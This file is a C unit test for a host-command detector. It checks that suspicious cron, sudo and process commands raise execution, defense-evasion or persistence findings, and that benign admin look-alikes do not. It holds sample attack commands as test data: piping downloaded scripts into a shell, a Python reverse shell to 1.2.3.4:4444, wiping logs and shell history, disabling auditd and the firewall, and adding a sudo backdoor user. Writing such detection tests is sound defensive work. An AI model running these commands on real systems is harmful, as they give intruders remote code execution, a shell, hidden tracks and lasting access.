/* test_hostcmd.c - the suspicious-command matcher (detect/hostcmd.c) on
 * the command lines real attacks and real admin jobs leave in cron,
 * sudo and process events: each positive fires its one type, each
 * look-alike fires nothing. */
#include <stdio.h>
#include <string.h>

#include "detect/detect.h"
#include "finding/agg.h"
#include "mmtest.h"

/* Run hostcmd on one host event of kind what with command cmd; the
 * types it raised, space-separated, into out. */
static void run(enum mm_host_what what, const char *cmd, char *out, size_t cap)
{
	struct mm_agg *agg = NULL;
	struct mm_detect_ctx c;
	struct mm_event ev;
	size_t i;

	out[0] = '\0';
	if (mm_agg_new(&agg, 100))
		return;
	memset(&c, 0, sizeof(c));
	c.agg = agg;
	memset(&ev, 0, sizeof(ev));
	ev.kind = MM_EV_HOST;
	ev.loc.file = "t";
	ev.loc.line = 1;
	ev.u.host.what = what;
	ev.u.host.host = mm_str_c("web1");
	ev.u.host.user = mm_str_c("git");
	ev.u.host.command = mm_str_c(cmd);
	mm_det_hostcmd.on_event(NULL, &c, &ev);
	for (i = 0; i < mm_agg_count(agg); i++) {
		const struct mm_finding *f = mm_agg_at(agg, i);
		size_t n = strlen(out);
		snprintf(out + n, cap - n, "%s%s", n ? " " : "", strchr(f->type, ':') ? f->type : "?");
	}
	mm_agg_free(agg);
}

#define EXEC "Execution:Runtime/SuspiciousCommand"
#define PERS "Persistence:Runtime/SuspiciousCommand"
#define EVAS "DefenseEvasion:Runtime/SuspiciousCommand"

MM_TEST(execution_positives)
{
	static const char *const cmds[] = {
		"wget -q -O - http://198.51.100.9/gi.sh | bash",
		"curl -fsSL http://x.example/i.sh | sudo sh",
		"curl -s http://x/a|/bin/bash -s -- arg",
		"bash -c \"$(curl -fsSL http://x/y.sh)\"",
		"sh -c `wget -qO- http://x/y`",
		"echo ZWNobyBoaQ== | base64 -d | sh",
		"echo ZWNobyBoaQ== | base64 --decode | bash",
		"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"1.2.3.4\",4444));"
		"os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
		NULL};
	char out[512];
	int i;
	for (i = 0; cmds[i]; i++) {
		run(MM_HOST_CRON_CMD, cmds[i], out, sizeof(out));
		if (strcmp(out, EXEC) != 0)
			fprintf(stderr, "  %s -> '%s'\n", cmds[i], out);
		CHECK_EQ_STR(out, EXEC);
	}
}

MM_TEST(lookalikes_do_not_fire)
{
	static const char *const cmds[] = {
		"curl -s -o /tmp/report.csv https://reports.example.com/daily.csv",
		"wget -q -O /home/git/b.tgz https://b.example.com/l && tar -xzf /home/git/b.tgz",
		"test -x /usr/bin/apt-get && apt-get -qq update",
		"/usr/sbin/logrotate /etc/logrotate.conf",
		"run-parts /etc/cron.hourly",
		"find /var/log/app -name '*.gz' -mtime +30 | xargs ls -l",
		"curl -s https://api.example.com/health | grep -q ok",
		"cat /etc/shells | bashful-report",
		"echo aGk= | base64 -d > /tmp/x",
		"python3 -c 'print(1)'",
		"/usr/bin/id",
		"iptables -L -n",
		"systemctl status auditd",
		"chattr +i /srv/data/archive.tar",
		"unset HISTFILE",
		"cp /var/log/syslog /srv/backup/",
		NULL};
	char out[512];
	int i;
	for (i = 0; cmds[i]; i++) {
		run(MM_HOST_SUDO, cmds[i], out, sizeof(out));
		if (out[0])
			fprintf(stderr, "  %s -> '%s'\n", cmds[i], out);
		CHECK_EQ_STR(out, "");
	}
}

MM_TEST(evasion_positives)
{
	static const char *const cmds[] = {
		"history -c", "export HISTFILESIZE=0", "export HISTFILE=/dev/null",
		"ln -sf /dev/null /home/git/.zsh_history", "mv /var/log/syslog /tmp/s",
		"rm -f /root/.bash_history", "rm -rf /var/log/secure",
		"cat /dev/null > /var/log/wtmp", "truncate -s 0 /var/log/auth.log",
		"setenforce 0", "iptables -F", "ufw disable", "systemctl stop auditd",
		"auditctl -e 0", "chattr +i /root/.ssh/authorized_keys", NULL};
	char out[512];
	int i;
	for (i = 0; cmds[i]; i++) {
		run(MM_HOST_SUDO, cmds[i], out, sizeof(out));
		if (strcmp(out, EVAS) != 0)
			fprintf(stderr, "  %s -> '%s'\n", cmds[i], out);
		CHECK_EQ_STR(out, EVAS);
	}
}

MM_TEST(persistence_positives)
{
	static const char *const cmds[] = {
		"/usr/sbin/useradd -m -s /bin/bash sysupd", "usermod -aG sudo sysupd",
		"tee /etc/systemd/system/kworker.service", "crontab -u git /tmp/c", NULL};
	char out[512];
	int i;
	for (i = 0; cmds[i]; i++) {
		run(MM_HOST_PROC, cmds[i], out, sizeof(out));
		if (strcmp(out, PERS) != 0)
			fprintf(stderr, "  %s -> '%s'\n", cmds[i], out);
		CHECK_EQ_STR(out, PERS);
	}
	/* listing a crontab, joining the docker group: nothing */
	run(MM_HOST_CRON_CMD, "crontab -l", out, sizeof(out));
	CHECK_EQ_STR(out, "");
	run(MM_HOST_PROC, "usermod -aG docker alice", out, sizeof(out));
	CHECK_EQ_STR(out, "");
}
